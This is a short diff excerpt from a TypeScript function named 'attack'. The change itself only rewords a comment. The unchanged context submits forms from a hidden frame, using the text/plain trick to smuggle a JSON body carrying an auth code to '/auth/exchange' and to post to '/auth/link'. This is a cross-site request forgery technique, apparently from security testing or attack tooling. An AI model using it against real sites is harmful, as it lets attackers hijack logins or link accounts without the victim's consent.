@@ -104,7 +104,7 @@ export async function attack({ origin, token, code }: Target): Promise<Record<st
     document.body.append(frame, form);
     form.submit();
   };
-  // With text/plain, a JSON body can be built from a field's name and value.
+  // A JSON body can be built from a field's name and value with text/plain.
   post('form-exchange', '/auth/exchange', { [`{"code":"${code}","x":"`]: '"}' });
   post('form-link', '/auth/link', {});
   await Promise.all(tries);
